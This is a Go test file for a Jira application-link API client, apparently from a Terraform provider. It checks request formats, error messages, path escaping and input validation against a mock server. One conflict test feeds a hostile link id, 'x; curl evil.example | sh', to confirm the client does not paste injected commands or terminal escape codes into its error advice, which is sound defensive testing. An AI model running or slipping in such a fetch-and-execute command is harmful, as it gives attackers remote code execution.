package jiraapi

import (
	"context"
	"encoding/json"
	"errors"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
)

var testAdmin = BasicAuth{Username: adminName, Password: adminPassword}

// applinksServer serves h under /jira and returns a client for it.
func applinksServer(t *testing.T, h http.HandlerFunc) *Client {
	t.Helper()
	srv := httptest.NewTLSServer(h)
	t.Cleanup(srv.Close)
	c, err := New(srv.URL+"/jira", newHTTPX(t, srv, 2))
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func jsonError(w http.ResponseWriter, status int, msg string) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	_ = json.NewEncoder(w).Encode(map[string]any{"status": status, "message": msg})
}

func TestCreateApplicationLinkRequestShape(t *testing.T) {
	var mu sync.Mutex
	var got map[string]any
	c := applinksServer(t, func(w http.ResponseWriter, r *http.Request) {
		user, pass, ok := r.BasicAuth()
		if r.Method != http.MethodPut || r.URL.Path != "/jira/rest/applinks/3.0/applicationlink" ||
			!ok || user != adminName || pass != adminPassword ||
			r.Header.Get("X-Atlassian-Token") != "no-check" || r.Header.Get("Content-Type") != "application/json" {
			t.Errorf("create request: %s %s basic=%v %q %v", r.Method, r.URL.Path, ok, user, r.Header)
		}
		body, _ := io.ReadAll(r.Body)
		var m map[string]any
		if err := json.Unmarshal(body, &m); err != nil {
			t.Errorf("body %q: %v", body, err)
		}
		mu.Lock()
		got = m
		mu.Unlock()
		out := maps.Clone(m)
		out["id"] = "0d8e0c7a-1111-2222-3333-444455556666"
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusCreated)
		_ = json.NewEncoder(w).Encode(out)
	})
	l, err := c.CreateApplicationLink(context.Background(), testAdmin, ApplicationLink{
		ID: "ignored", Name: "Jira Align", RPCURL: "https://align.example", DisplayURL: "https://align.example",
	})
	if err != nil {
		t.Fatalf("CreateApplicationLink: %v", err)
	}
	want := ApplicationLink{ID: "0d8e0c7a-1111-2222-3333-444455556666", Name: "Jira Align", RPCURL: "https://align.example", DisplayURL: "https://align.example", TypeID: "generic"}
	if *l != want {
		t.Errorf("link = %+v, want %+v", *l, want)
	}
	mu.Lock()
	defer mu.Unlock()
	wantBody := map[string]any{"name": "Jira Align", "rpcUrl": "https://align.example", "displayUrl": "https://align.example", "typeId": "generic"}
	if len(got) != len(wantBody) {
		t.Errorf("body = %v, want exactly %v", got, wantBody)
	}
	for k, v := range wantBody {
		if got[k] != v {
			t.Errorf("body[%s] = %v, want %v", k, got[k], v)
		}
	}
}

func TestApplinksErrorMessages(t *testing.T) {
	cases := []struct {
		name   string
		status int
		call   func(c *Client) error
		want   string
	}{
		{"create 409", http.StatusConflict, func(c *Client) error {
			_, err := c.CreateApplicationLink(context.Background(), testAdmin, ApplicationLink{Name: "n", RPCURL: "https://align.example", DisplayURL: "https://align.example"})
			return err
		}, `an application link with rpc_url "https://align.example" already exists in Jira: import it (terraform import jira_application_link.<name> <id>) or remove it`},
		{"create 401", http.StatusUnauthorized, func(c *Client) error {
			_, err := c.CreateApplicationLink(context.Background(), testAdmin, ApplicationLink{Name: "n", RPCURL: "https://a.example"})
			return err
		}, "check jira_username/jira_password (JIRA_USERNAME/JIRA_PASSWORD); they must be a Jira administrator's"},
		{"get 403", http.StatusForbidden, func(c *Client) error {
			_, err := c.GetApplicationLink(context.Background(), testAdmin, "id1")
			return err
		}, `user "jira-admin" is not a Jira administrator`},
		{"consumer 409", http.StatusConflict, func(c *Client) error {
			return c.PutConsumer(context.Background(), testAdmin, "id1", Consumer{Key: "JiraAlign1", Name: "n", PublicKey: "MIIB"})
		}, `consumer key "JiraAlign1" is already used by another application link: pick another key`},
		{"consumer 400 quotes Jira", http.StatusBadRequest, func(c *Client) error {
			return c.PutConsumer(context.Background(), testAdmin, "id1", Consumer{Key: "JiraAlign1", Name: "n", PublicKey: "MIIB"})
		}, "jira-said-this"},
		{"delete 500", http.StatusInternalServerError, func(c *Client) error {
			return c.DeleteApplicationLink(context.Background(), testAdmin, "id1")
		}, "server error"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			c := applinksServer(t, func(w http.ResponseWriter, r *http.Request) {
				jsonError(w, tc.status, "jira-said-this")
			})
			err := tc.call(c)
			var he *HTTPError
			if !errors.As(err, &he) || he.StatusCode != tc.status {
				t.Fatalf("err = %v, want HTTPError %d", err, tc.status)
			}
			if !strings.Contains(err.Error(), tc.want) {
				t.Errorf("message %q lacks %q", err.Error(), tc.want)
			}
			assertNoSecret(t, err.Error(), adminPassword)
		})
	}
}

func TestApplinksNotFound(t *testing.T) {
	c := applinksServer(t, func(w http.ResponseWriter, r *http.Request) {
		jsonError(w, http.StatusNotFound, "no such link")
	})
	ctx := context.Background()
	if _, err := c.GetApplicationLink(ctx, testAdmin, "gone"); !IsNotFound(err) {
		t.Errorf("GetApplicationLink err = %v, want IsNotFound", err)
	}
	if _, err := c.GetConsumer(ctx, testAdmin, "gone"); !IsNotFound(err) {
		t.Errorf("GetConsumer err = %v, want IsNotFound", err)
	}
	if err := c.DeleteApplicationLink(ctx, testAdmin, "gone"); err != nil {
		t.Errorf("DeleteApplicationLink on 404 = %v, want nil", err)
	}
	if err := c.DeleteConsumer(ctx, testAdmin, "gone"); err != nil {
		t.Errorf("DeleteConsumer on 404 = %v, want nil", err)
	}
	if err := c.PutConsumer(ctx, testAdmin, "gone", Consumer{Key: "k", PublicKey: "x"}); !IsNotFound(err) {
		t.Errorf("PutConsumer err = %v, want IsNotFound", err)
	}
	if IsNotFound(errors.New("x")) || IsNotFound(nil) {
		t.Error("IsNotFound on a plain error")
	}
}

func TestConsumerRoundTripAndPaths(t *testing.T) {
	var mu sync.Mutex
	stored := map[string][]byte{}
	c := applinksServer(t, func(w http.ResponseWriter, r *http.Request) {
		const prefix = "/jira/rest/applinks-oauth/1.0/applicationlink/"
		id, ok := strings.CutPrefix(r.URL.EscapedPath(), prefix)
		id, ok2 := strings.CutSuffix(id, "/authentication/consumer")
		if !ok || !ok2 {
			t.Errorf("path %q", r.URL.EscapedPath())
			http.NotFound(w, r)
			return
		}
		mu.Lock()
		defer mu.Unlock()
		switch r.Method {
		case http.MethodPut:
			b, _ := io.ReadAll(r.Body)
			stored[id] = b
			w.WriteHeader(http.StatusCreated)
			_, _ = w.Write(b)
		case http.MethodGet:
			if b, ok := stored[id]; ok {
				_, _ = w.Write(b)
				return
			}
			jsonError(w, http.StatusNotFound, "none")
		case http.MethodDelete:
			delete(stored, id)
			w.WriteHeader(http.StatusNoContent)
		}
	})
	ctx := context.Background()
	id := "a/b c" // escaped into one path segment
	in := Consumer{Key: "JiraAlign1", Name: "Jira Align", Description: "d", PublicKey: "MIIBIjAN", Outgoing: false, TwoLOAllowed: false}
	if err := c.PutConsumer(ctx, testAdmin, id, in); err != nil {
		t.Fatal(err)
	}
	got, err := c.GetConsumer(ctx, testAdmin, id)
	if err != nil || *got != in {
		t.Fatalf("GetConsumer = %+v, %v", got, err)
	}
	mu.Lock()
	_, ok := stored["a%2Fb%20c"]
	mu.Unlock()
	if !ok {
		t.Errorf("link id not escaped into one segment: %v", stored)
	}
	if err := c.DeleteConsumer(ctx, testAdmin, id); err != nil {
		t.Fatal(err)
	}
	if _, err := c.GetConsumer(ctx, testAdmin, id); !IsNotFound(err) {
		t.Errorf("after delete: %v", err)
	}
}

func TestApplinksValidateInput(t *testing.T) {
	c := applinksServer(t, func(w http.ResponseWriter, r *http.Request) {
		t.Errorf("invalid input reached Jira: %s %s", r.Method, r.URL.Path)
	})
	ctx := context.Background()
	if _, err := c.CreateApplicationLink(ctx, testAdmin, ApplicationLink{Name: "n"}); err == nil {
		t.Error("create without rpc_url succeeded")
	}
	if _, err := c.GetApplicationLink(ctx, testAdmin, ""); err == nil {
		t.Error("get with empty id succeeded")
	}
	if err := c.DeleteApplicationLink(ctx, BasicAuth{Password: adminPassword}, "x"); err == nil {
		t.Error("delete without username succeeded")
	} else {
		assertNoSecret(t, err.Error(), adminPassword)
	}
	if err := c.PutConsumer(ctx, testAdmin, "x", Consumer{Key: "k"}); err == nil {
		t.Error("consumer without public key succeeded")
	}
}

// A 409 on a create names the link that holds the rpcUrl, found with the list call, and the
// exact import command; an id that could not be pasted into a command as it is, or a failed
// lookup, leaves the general advice.
func TestCreateApplicationLinkConflictNamesTheLink(t *testing.T) {
	for _, c := range []struct {
		name, id, want string
	}{
		{"uuid", "6f1c2a9e-2b7d-4c1e-9a3f-0d2e4b6a8c01", `application link 6f1c2a9e-2b7d-4c1e-9a3f-0d2e4b6a8c01 ("Align \"prod\" [31m") already has rpc_url "https://align.example" in Jira: import it (terraform import jira_application_link.<name> 6f1c2a9e-2b7d-4c1e-9a3f-0d2e4b6a8c01) or remove it`},
		{"hostile id", "x; curl evil.example | sh", `import it (terraform import jira_application_link.<name> <id>) or remove it`},
	} {
		t.Run(c.name, func(t *testing.T) {
			cl := applinksServer(t, func(w http.ResponseWriter, r *http.Request) {
				switch r.Method {
				case http.MethodPut:
					jsonError(w, http.StatusConflict, "exists")
				case http.MethodGet:
					w.Header().Set("Content-Type", "application/json")
					_ = json.NewEncoder(w).Encode([]ApplicationLink{
						{ID: "other", Name: "Other", RPCURL: "https://other.example", TypeID: "generic"},
						{ID: c.id, Name: "Align \"prod\"\x1b[31m", RPCURL: "https://ALIGN.example/", TypeID: "generic"},
					})
				default:
					t.Errorf("unexpected %s %s", r.Method, r.URL.Path)
				}
			})
			_, err := cl.CreateApplicationLink(context.Background(), testAdmin, ApplicationLink{Name: "n", RPCURL: "https://align.example", DisplayURL: "https://align.example"})
			var he *HTTPError
			if !errors.As(err, &he) || he.StatusCode != http.StatusConflict {
				t.Fatalf("err = %v, want HTTPError 409", err)
			}
			if !strings.Contains(err.Error(), c.want) {
				t.Errorf("message %q lacks %q", err.Error(), c.want)
			}
			if strings.ContainsAny(err.Error(), "\x1b;|") {
				t.Errorf("message carries the peer's control characters or command: %q", err.Error())
			}
		})
	}
}

// A read of one link answered with another (a misrouting proxy or cache) is refused, naming both
// ids, and not retried; an answer without an id is taken as the link asked for.
func TestGetApplicationLinkAboutAnotherRefused(t *testing.T) {
	var hits int
	var mu sync.Mutex
	c := applinksServer(t, func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		hits++
		mu.Unlock()
		id := strings.TrimPrefix(r.URL.Path, "/jira/rest/applinks/3.0/applicationlink/")
		l := ApplicationLink{ID: "7b0e5c1d-0000-4000-8000-000000000007", Name: "theirs", RPCURL: "https://other.example", TypeID: "generic"}
		switch id {
		case "no-id":
			l.ID = ""
		case "7B0E5C1D-0000-4000-8000-000000000007":
			// the same id in other letter case
		}
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(l)
	})
	ctx := context.Background()
	_, err := c.GetApplicationLink(ctx, testAdmin, "1a2b3c4d-0000-4000-8000-000000000001")
	if err == nil || !strings.Contains(err.Error(), `application link "7b0e5c1d-0000-4000-8000-000000000007", not "1a2b3c4d-0000-4000-8000-000000000001"`) {
		t.Fatalf("err = %v, want a refusal naming both ids", err)
	}
	if IsNotFound(err) {
		t.Error("a swapped answer reads as not found (the link would be dropped from state)")
	}
	if hits != 1 {
		t.Errorf("%d requests, want 1 (not retried)", hits)
	}
	if l, err := c.GetApplicationLink(ctx, testAdmin, "no-id"); err != nil || l.ID != "no-id" {
		t.Errorf("answer without id: %+v, %v", l, err)
	}
	if l, err := c.GetApplicationLink(ctx, testAdmin, "7B0E5C1D-0000-4000-8000-000000000007"); err != nil || l.Name != "theirs" {
		t.Errorf("same id in other case: %+v, %v", l, err)
	}
}
